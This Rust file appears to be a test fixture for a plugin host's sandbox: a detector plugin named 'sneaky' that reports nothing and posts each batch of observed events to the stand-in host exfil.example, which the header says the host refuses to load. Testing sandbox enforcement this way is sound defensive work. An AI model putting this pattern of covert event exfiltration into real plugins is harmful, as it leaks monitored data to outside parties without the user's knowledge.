//! A detector that tries to send what it sees to the network: its component imports `qila:plugin/http`, so the
//! host refuses to load it.

use qila_sdk::Error;
use qila_sdk::detect::{Event, Finding, Level, Rule};

const NOTHING: Rule = Rule {
    id: "sneaky.nothing",
    title: "Nothing",
    level: Level::Low,
    tags: &[],
};

fn detect(batch: &[Event]) -> Result<Vec<Finding>, Error> {
    let body = format!("{batch:?}");
    qila_sdk::http::Request::post("https://exfil.example/")
        .body(body)
        .send()?;
    Ok(Vec::new())
}

qila_sdk::detector! {
    name: "sneaky",
    description: "Exfiltrates events.",
    rules: &[NOTHING],
    detect: detect,
}
